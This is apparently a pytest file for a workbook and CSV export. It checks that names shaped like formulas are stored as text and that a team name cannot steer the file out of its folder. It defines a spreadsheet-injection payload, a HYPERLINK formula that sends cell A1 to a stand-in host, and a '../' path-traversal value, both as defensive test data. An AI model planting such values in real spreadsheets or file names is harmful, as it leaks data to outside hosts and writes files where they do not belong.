"""The month's numbers as a workbook and CSV: names in them stay text, and a team's name stays in
the export folder."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from sqlmodel import Session, select

from stvdesk.db.models import Team, Worker
from stvdesk.db.queries.workers import find_worker
from stvdesk.export.steering import write_month
from tests.conftest import TODAY

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


def test_names_that_look_like_formulas_are_written_as_text(demo_engine, tmp_path: Path) -> None:
    with Session(demo_engine) as session:
        lv = session.exec(select(Worker).where(Worker.initials == "LV")).one()
        team = session.get(Team, lv.team_id)
        team.name = "../" + FORMULA
        caseworker = session.exec(select(Worker).where(Worker.team_id == lv.team_id, Worker.initials == "KB")).one()
        caseworker.name = FORMULA
        session.commit()
        worker = find_worker(session, "LV")
        path = write_month(session, worker=worker, month=TODAY.replace(day=1), today=TODAY, folder=tmp_path)
    # The team's name cannot lead the file out of the folder.
    assert path.parent == tmp_path and path.exists() and "/" not in path.name
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "../" + FORMULA for cell in cells)
    lines = path.with_suffix(".csv").read_text(encoding="utf-8-sig").splitlines()
    assert not any(line.split(";")[0].startswith("=") for line in lines)
    assert any(line.startswith(("'=HYPERLINK", "\"'=HYPERLINK")) for line in lines)
